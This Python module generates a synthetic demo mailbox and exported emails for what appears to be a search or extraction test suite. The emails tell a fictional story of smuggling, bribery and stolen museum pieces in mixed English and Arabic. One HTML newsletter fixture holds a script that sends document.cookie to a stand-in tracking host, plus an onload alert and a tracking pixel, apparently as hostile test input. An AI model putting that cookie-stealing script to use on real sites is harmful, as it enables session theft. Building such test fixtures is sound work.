"""The mails: one mailbox taken from the office's server, and single messages exported by hand."""

import re
from datetime import datetime, timedelta, timezone
from functools import cache

from demo import story as s
from demo import story_office as office
from demo.makers import Attachment, csv_of, eml, mbox, pdf, text, xlsx, zip_of
from demo.makers.pdf import Text
from demo.plan import Chapter, Fact
from demo.story import ARABIC, BY_REFERENCE

ZONE = timezone(timedelta(hours=3))
MBOX, EXPORT = "mail/archive.mbox", "mail/exported"
PDF, ZIP = "application/pdf", "application/zip"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@cache
def chapter() -> Chapter:
    return Chapter({MBOX: mailbox(), **exported()}, facts=FACTS)


def at(month: int, day: int, hour: int = 9, minute: int = 0) -> datetime:
    return datetime(2019, month, day, hour, minute, tzinfo=ZONE)


def paid(reference: str) -> str:
    payment = BY_REFERENCE[reference]
    return f"{payment.money} from {payment.payer} to {payment.payee}, our reference {reference}"


def letter(sender: s.Person, *words: str) -> str:
    return "\n\n".join((*words, sender.variants[0]))


def clerk_mail() -> bytes:
    """Where the claim about the four crates begins, as far as the haul shows: the clerk's own words to a colleague."""
    body = letter(s.MOUNIRA, f"{s.ORIGIN}. He counted them himself and would swear to it.",
                  "I was at home that night, so I have it from him alone.")  # fmt: skip
    return eml(s.MOUNIRA.mailbox, [s.TARIQ.mailbox], "Crates", at(5, 10, 8, 5), body, seed=1, message_id="<crates@blueheron.example>",
               attachments=[Attachment("gate list.csv", "text/csv", gate_list())])  # fmt: skip


def gate_list() -> bytes:
    return csv_of([("time", "lorry", "driver", "load"), ("22:40", "MQ 4471", "F. Kenjari", "2 crates"),
                   ("23:15", "MQ 4471", "F. Kenjari", "2 crates"), ("01:05", "MQ 9020", "unknown", "empty")])  # fmt: skip


@cache
def messages() -> tuple[tuple[s.Person, datetime, bytes], ...]:
    """The mailbox in its order; message numbers in the key count from 1."""
    n, t, le, i, m = s.NADIM, s.TARIQ, s.LEILA, s.IDRIS, s.MARIUS
    first = "<freight06@qandil-bridge.example>"
    rows: list[tuple[s.Person, list[s.Person], str, datetime, str, dict[str, object]]] = [
        (n, [t], "Freight for SL-06", at(3, 4, 10), letter(n, f"Tarsin have paid: {paid('QB-014')}.", "Release the vessel tonight."), {"message_id": first}),
        (t, [n], "Re: Freight for SL-06", at(3, 4, 11, 30), letter(t, "Received. She sails at two, without the pilot.") + f"\n\n> {paid('QB-014')}", {"in_reply_to": first}),
        (n, [i], "عمولة الربع الأول", at(3, 19, 18), letter(n, "السيد إدريس، يصلك فارس غدا ومعه حقيبتان.", "المبلغ 62750 دولارا، والمرجع QB-017."), {"charset": "windows-1256", "transfer": "base64"}),
        (i, [n], "رد: عمولة الربع الأول", at(3, 20, 13), letter(i, "وصلت الحقيبتان كاملتين. القنديل في البحر."), {}),
        (m, [n, s.OTTOLINE], "Garden furniture", at(4, 2, 15, 20), letter(m, f"My bank has sent {paid('QB-021')}.", "I look forward to sitting on it."), {}),
        (s.OTTOLINE, [le], "What have I signed", at(4, 3, 9, 45), letter(s.OTTOLINE, f"I signed {paid('QB-022')}.", "Who is Meridian Salt, and do I own it or does it own me?"), {}),
        (le, [s.OTTOLINE], "Re: What have I signed", at(4, 3, 10, 2), letter(le, "Both. Please delete this thread when you have read it."), {"html": "<p>Both. <b>Please delete this thread</b> when you have read it.</p>"}),
        (n, [le], "Supply office", at(4, 17, 20), letter(n, f"Tonight: {paid('QB-029')}.", "In the book it is called lamp oil."), {}),
        (le, [n], "Re: Supply office", at(4, 17, 21), letter(le, "Booked. The invoice is attached in case anybody asks, which nobody will."), {"attachments": [Attachment("Invoice QB-029.pdf", PDF, office.invoice("QB-029"))]}),
        (s.FARIS, [n], "القاعة الرابعة", at(4, 30, 23, 50), letter(s.FARIS, "انتهينا. ثلاثة صناديق في السيارة والباب مغلق كما كان.", "لوحات الشرح ما زالت على الجدار."), {}),
        (s.MOUNIRA, [t], "Night shift", at(5, 2, 7, 30), letter(s.MOUNIRA, f"Thank you for the overtime ({paid('QB-033')}). The men ask what is in the crates."), {}),
        (t, [s.ASKELOV], "Loading order SL-07", at(5, 7, 12), letter(t, "Load at the outer roads on 8 May after midnight. Lights out, transponder out of order."), {}),
        (s.ASKELOV, [t], "Re: Loading order SL-07", at(5, 9, 6, 10), letter(s.ASKELOV, "Loaded and sailed. The mate asks which name goes into the log, and whether ours is still Amber Tide."), {}),
        (n, [le], "Residue SL-07", at(5, 9, 17), letter(n, f"In: {paid('QB-036')}.", "That is for the small figure, not for the one on the bill."), {}),
        (t, [n, m], "Fwd: Crates", at(5, 10, 9), letter(t, "See below. Somebody should have a word with the clerk of Warehouse 9."), {"attachments": [Attachment("", "message/rfc822", clerk_mail())]}),
        (s.SALMA, [t], "Soundings", at(5, 13, 8), letter(s.SALMA, f"We measured {s.BARRELS_CUSTOMS} on board the Sea Lantern on the night of 12 May.", "Please explain the bill of lading within ten days."), {"cc": [s.YUSUF]}),
        (t, [n], "Customs again", at(5, 13, 9, 20), letter(t, f"She has the true figure. Our bill says {s.BARRELS_BILL}. Do we bribe her or sink her report?"), {}),
        (n, [t], "Re: Customs again", at(5, 13, 9, 50), letter(n, "She does not take anything. Ask the harbour master to lose the report; he collects ship models."), {}),
        (m, [le], "The lamp", at(5, 21, 14), letter(m, f"Restoration is paid: {paid('QB-041')}.", "The chain wants a fifth link, but four is what the photograph shows."), {"attachments": [Attachment("costs.zip", ZIP, costs())]}),
        (s.YUSUF, [s.SALMA, s.DALIA], "السجل", at(5, 24, 10), letter(s.YUSUF, "أرفق سجل القطع المفقودة من متحف طريق الملح.", "المصباح البرونزي SRM-0417 هو الأهم."), {"attachments": [Attachment("سجل المفقودات.xlsx", SHEET, missing())]}),
        (le, [n], "Loan", at(6, 6, 16), letter(le, f"Done: {paid('QB-044')}.", "There is no paper for this loan and there must never be."), {}),
        (s.ANSELM, [le], "Hollow Crown", at(6, 12, 11), letter(s.ANSELM, "Is the Grey Petrel the former Hollow Crown, which burned a cargo of cotton in 2016?"), {}),
        (le, [s.ANSELM], "Re: Hollow Crown", at(6, 20, 11, 5), letter(le, f"She has a new name and a new heart. The premium is on its way: {paid('QB-052')}."), {}),
        (s.HADI, [i], "إطارات", at(6, 27, 19), letter(s.HADI, "استلمنا الإطارات والديزل. المبلغ 18600 دولار والمرجع QB-057.", "سلّم على صاحب القنديل."), {"charset": "windows-1256", "transfer": "8bit"}),
        (m, [n], "One more crate", at(7, 1, 8, 40), letter(m, f"And the last one: {paid('QB-060')}.", "From now on I prefer the telephone."), {}),
        (s.DALIA, [n], "Questions", at(7, 2, 9), letter(s.DALIA, "Do you own Meridian Salt Holdings? Who is the beneficial owner behind Larkspur Nominees?", "From the tank farm to the sale room takes nineteen days. Is that your ship?"), {}),
    ]  # fmt: skip
    return tuple(
        (sender, when, _mail(sender, to, subject, when, body, 100 + number, options))
        for number, (sender, to, subject, when, body, options) in enumerate(rows)
    )


def _mail(sender: s.Person, to: list[s.Person], subject: str, when: datetime, body: str, seed: int, options: dict) -> bytes:  # type: ignore[type-arg]
    cc = [person.mailbox for person in options.get("cc", ())]
    name = f"{sender.arabic} <{sender.address}>" if not subject.isascii() else sender.mailbox
    return eml(name, [person.mailbox for person in to], subject, when, body, seed=seed, **{**options, "cc": cc})


def mailbox() -> bytes:
    return mbox([(sender.address, when, message) for sender, when, message in messages()])


def costs() -> bytes:
    return zip_of({
        "costs.csv": csv_of([("work", "eur"), ("cleaning of the bronze", 31_000), ("new papers for the lamp", 24_000)], delimiter=";"),
        "صور/اقرأني.txt": text(["الصور عند ماريوس فقط، ولا ترسل بالبريد."]),
    })  # fmt: skip


def missing() -> bytes:
    rows = [(number, english, arabic) for number, english, arabic, state in s.PIECES if state == "missing"]
    return xlsx({"المفقودات": [("الرقم", "Piece", "القطعة"), *rows]}, author=s.YUSUF.arabic)


PIXEL = '<img src="https://count.larkspur-nominees.example/open.gif?id=77" width="1" height="1">'
SCRIPT = "<script>document.location = 'https://count.larkspur-nominees.example/' + document.cookie;</script>"


def newsletter() -> bytes:
    """HTML alone, with a pixel that tells of the opening, a script, and words that are hidden."""
    page = (
        f"<html><head><style>.x{{color:red}}</style>{SCRIPT}</head><body onload=\"alert(1)\"><h2>Larkspur quarterly</h2>"
        "<p>Discretion is our only product. A new island was added to our list: <b>Saint Orla</b>.</p>"
        f"<p style=\"display:none\">unsubscribe pigeon</p>{PIXEL}</body></html>"
    )
    mail = eml(f"Larkspur <news@{s.OTTOLINE.address.partition('@')[2]}>", [s.NADIM.mailbox], "Larkspur quarterly",
               at(4, 8, 6), "", html=page, seed=300)  # fmt: skip
    return _html_alone(mail)


def _html_alone(mail: bytes) -> bytes:
    """The HTML part of a multipart/alternative as the mail's only body."""
    head, _, parts = mail.partition(b"Content-Type: multipart/alternative")
    kept = re.search(rb"(Content-Type: text/html.*?)\r\n--alt-", parts, re.S)
    assert kept
    return head + kept[1] + b"\r\n"


def report_mail() -> bytes:
    files = {
        "report.txt": text(["Tank soundings, 12 May 2019, MT Sea Lantern", f"Sum of four tanks: {s.BARRELS_CUSTOMS}",
                            "Selma Karawi, officer of the watch"], encoding="utf-16", ending="\r\n"),
        "تقرير القياس.txt": text([f"مجموع الخزانات الأربعة 28300 برميل. {s.SALMA.arabic}"], encoding="windows-1256"),
    }
    return eml(s.SALMA.mailbox, ["Harbour Master <master@port.marsa-qandil.example>"], "Report of soundings", at(5, 13, 7, 15),
               letter(s.SALMA, "The report is attached, in both languages. Please confirm that it will not be lost."),
               attachments=[Attachment("report.zip", ZIP, zip_of(files))], seed=301)  # fmt: skip


def deep_forward() -> bytes:
    """A forward of a forward of the clerk's mail: copy 3 of one origin."""
    inner = eml(s.TARIQ.mailbox, [s.NADIM.mailbox], "Fwd: Crates", at(5, 10, 9, 30), "For your eyes.", seed=302,
                attachments=[Attachment("", "message/rfc822", clerk_mail())])  # fmt: skip
    return eml(s.NADIM.mailbox, [s.LEILA.mailbox], "Fwd: Fwd: Crates", at(5, 11, 9), "Is this man on our list?", seed=303,
               attachments=[Attachment("crates.eml", "message/rfc822", inner)])  # fmt: skip


SHORT = (
    (s.SALMA, s.YUSUF, "Your lamp", (5, 16), "I saw a crate marked LANTERN on the quay. It was listed as furniture. Was your lamp heavy?"),
    (s.YUSUF, s.SALMA, "Re: Your lamp", (5, 16), "Forty-eight kilograms with its chain of four links. Please look for the maker's mark, a heron."),
    (s.DALIA, s.SALMA, "A question in confidence", (5, 20), "Two people told me of the tank farm at Wadi Kasar. Can you say whether the customs know of it?"),
    (s.SALMA, s.DALIA, "Re: A question in confidence", (5, 20), "I may not answer. I can tell you which public registers I read in the evening."),
    (s.ASKELOV, s.TARIQ, "Log", (5, 18), "The log of SL-06 fell into the sea, as you wished. The second mate made a copy, as you did not."),
    (s.NADIM, s.OTTOLINE, "Sealed letter", (6, 1), "Move the sealed letter from Port Verrane to Saint Orla. Do not open it, you would only worry."),
    (s.LEILA, s.IDRIS, "Rates", (6, 10), "Your rate of four per cent is two more than the square's. Larkspur pays, so let it be three."),
    (s.FARIS, s.NADIM, "سيارة", (5, 9), "السيارة MQ 4471 جاهزة. أنقل صندوقين في كل مرة من المستودع التاسع إلى الرصيف."),
    (s.HADI, s.NADIM, "حماية الخزانات", (3, 1), "خزانات وادي كسار تحت حمايتنا. الثمن شاحنتان من الديزل كل شهر."),
    (s.SALMA, s.NADIM, "استدعاء", (6, 5), "تدعوكم دائرة الجمارك إلى تقديم بوليصة الشحن الأصلية للرحلة السابعة."),
    (s.IDRIS, s.LEILA, "كشف حساب", (6, 30), "كشف الربع الثاني: ثلاث دفعات إلى مكتب الإمداد، وواحدة إلى المستودع التاسع."),
    (s.ANSELM, s.SALMA, "Cover withdrawn", (6, 28), "We withdraw cover for the Grey Petrel. Her former name was kept from us."),
    (s.MARIUS, s.YUSUF, "Expertise", (6, 2), "Would you, for a fee, write that a boat-shaped lamp of four links left your country before 1970?"),
    (s.YUSUF, s.MARIUS, "Re: Expertise", (6, 3), "I would write that it hung in room four on 30 April of this year."),
)  # fmt: skip


def exported() -> dict[str, bytes]:
    files = {}
    for number, (sender, to, subject, (month, day), words) in enumerate(SHORT):
        arabic = not subject.isascii()
        coding = ("windows-1256", "quoted-printable") if arabic and number % 2 else ("utf-8", ("quoted-printable", "base64", "8bit")[number % 3])
        name = f"{sender.arabic} <{sender.address}>" if arabic else sender.mailbox
        mail = eml(name, [to.mailbox], subject, at(month, day, 8 + number % 9, number), letter(sender, words), charset=coding[0],
                   transfer=coding[1], headers=[("X-Mailer", "Dovecote 2.1"), ("X-Originating-IP", f"[192.0.2.{10 + number}]")],
                   seed=200 + number)  # fmt: skip
        files[f"{EXPORT}/{number + 1:02} {subject.replace(':', '')}.eml"] = mail
    logo = Attachment("logo.txt", "text/plain", b"a lamp, drawn in letters\n", cid="logo@qandil")
    html = f'<div dir="rtl"><p>{ARABIC[s.BRIDGE]} تهنئكم بالعيد.</p><img src="cid:logo@qandil">{PIXEL}</div>'
    greeting = eml(f"{s.NADIM.arabic} <{s.NADIM.address}>", [s.SALMA.mailbox], "تهنئة", at(6, 4), "تهنئة بالعيد مع سلة تمر وقنديل فضي صغير.",
                   html=html, attachments=[logo], seed=304)  # fmt: skip
    statement = pdf([Text(["Statement of the second quarter", "Four per cent of everything"]), Text(["QB-057  USD 18,600.00  tyres and diesel"])],
                    title="Statement", author="Edris Walmany", seed=9)  # fmt: skip
    with_statement = eml(s.IDRIS.mailbox, [s.LEILA.mailbox], "Statement", at(7, 1), letter(s.IDRIS, "Enclosed."), seed=305,
                         attachments=[Attachment("statement Q2.pdf", PDF, statement)])  # fmt: skip
    return files | {
        f"{EXPORT}/15 Larkspur quarterly.eml": newsletter(),
        f"{EXPORT}/16 Report of soundings.eml": report_mail(),
        f"{EXPORT}/17 Fwd Fwd Crates.eml": deep_forward(),
        f"{EXPORT}/18 تهنئة.eml": greeting,
        f"{EXPORT}/19 Statement.eml": with_statement,
    }


def _payment(number: int, reference: str) -> Fact:
    money = BY_REFERENCE[reference].money
    return Fact(f"mail-{reference.lower()}", f"A mail confirms payment {reference} of the ledger", f'"{money}"', MBOX, money,
                inside=(str(number),))  # fmt: skip


FACTS = (
    *(_payment(n, r) for n, r in ((1, "QB-014"), (5, "QB-021"), (6, "QB-022"), (8, "QB-029"), (11, "QB-033"), (14, "QB-036"),
                                  (19, "QB-041"), (21, "QB-044"), (23, "QB-052"), (25, "QB-060"))),
    Fact("mbox-arabic-1256", "A mail in windows-1256 and base64", "\"غدا ومعه حقيبتان\"", MBOX, "ومعه حقيبتان", inside=("3",)),
    Fact("mbox-arabic-8bit", "A mail in windows-1256, eight bits as they are", "\"صاحب القنديل\"", MBOX, "سلّم على صاحب القنديل", inside=("24",)),
    Fact("mbox-attachment", "An invoice attached to a mail in the mailbox", "\"97,300\" type:pdf", MBOX, "Amount due: USD 97,300.00", "page=1",
         ("9", "Invoice QB-029.pdf")),
    Fact("origin-mail", "The clerk's mail inside a forward (one origin, its earliest record)", "\"have it from him alone\"", MBOX,
         "I have it from him alone", inside=("15", "2")),
    Fact("gate-list", "An attachment of the forwarded mail: who drove", "Kenjari crates", MBOX, "F. Kenjari", "row=2",
         ("15", "2", "gate list.csv")),
    Fact("zip-in-mail", "New papers for the lamp: a CSV in a ZIP in a mail", "\"new papers\" lamp", MBOX, "new papers for the lamp", "row=3",
         ("19", "costs.zip", "costs.csv")),
    Fact("zip-in-mail-arabic", "An Arabic name in the ZIP", "\"عند ماريوس\"", MBOX, "الصور عند ماريوس فقط", inside=("19", "costs.zip", "صور/اقرأني.txt")),
    Fact("sheet-in-mail", "The list of missing pieces", "\"وعلان\"", MBOX, "مشط من العاج عليه وعلان", "sheet=%D8%A7%D9%84%D9%85%D9%81%D9%82%D9%88%D8%AF%D8%A7%D8%AA&row=4",
         ("20", "سجل المفقودات.xlsx")),
    Fact("from-line", "A line that begins with From, inside a mail's body", "\"tank farm to the sale room\"", MBOX,
         "From the tank farm to the sale room takes nineteen days", inside=("26",)),
    Fact("header-from", "Who asked for the tyres", "from:dunebrigade", MBOX, "هادي زبيران <supply@dunebrigade.example>", inside=("24",), metadata="from"),
    Fact("header-cc", "The registrar got a copy", "to:saltroad OR Soundings", MBOX, "Yusuf Darmati <registrar@saltroad-museum.example>",
         inside=("16",), metadata="cc"),
    Fact("header-date", "A date keeps its offset", "\"Do we bribe her\"", MBOX, "2019-05-13T09:20:00+03:00", inside=("17",), metadata="date"),
    Fact("eml-1256", "windows-1256 in quoted-printable", "\"بوليصة الشحن الاصلية\"", f"{EXPORT}/10 استدعاء.eml", "بوليصة الشحن الأصلية للرحلة السابعة"),
    Fact("eml-utf8", "The driver's lorry", "\"MQ 4471\" المستودع", f"{EXPORT}/08 سيارة.eml", "أنقل صندوقين في كل مرة"),
    Fact("eml-html", "HTML alone, tracking pixel and script", "\"Discretion is our only product\"", f"{EXPORT}/15 Larkspur quarterly.eml",
         "A new island was added to our list"),
    Fact("utf16-in-zip-in-mail", "The soundings' report, UTF-16 in a ZIP in a mail", "\"Sum of four tanks\"", f"{EXPORT}/16 Report of soundings.eml",
         "Sum of four tanks: 28,300 barrels", inside=("report.zip", "report.txt")),
    Fact("1256-in-zip-in-mail", "The same in Arabic, windows-1256", "\"الخزانات الاربعة\"", f"{EXPORT}/16 Report of soundings.eml", "مجموع الخزانات الأربعة",
         inside=("report.zip", "تقرير القياس.txt")),
    Fact("origin-forward", "The clerk's word in a forward of a forward (copy 3)", "\"would swear to it\"", f"{EXPORT}/17 Fwd Fwd Crates.eml",
         "He counted them himself and would swear to it", inside=("crates.eml", "2")),
    Fact("pdf-in-mail", "The changer's statement, page two", "\"18,600.00\" tyres", f"{EXPORT}/19 Statement.eml", "QB-057 USD 18,600.00 tyres and diesel",
         "page=2", ("statement Q2.pdf",)),
    Fact("header-subject", "A subject in encoded words", "\"سلة تمر\"", f"{EXPORT}/18 تهنئة.eml", "تهنئة", metadata="subject"),
    Fact("customs-temptation", "The dealer asks the registrar for a lie", "\"left your country before 1970\"", f"{EXPORT}/13 Expertise.eml",
         "left your country before 1970"),
)  # fmt: skip
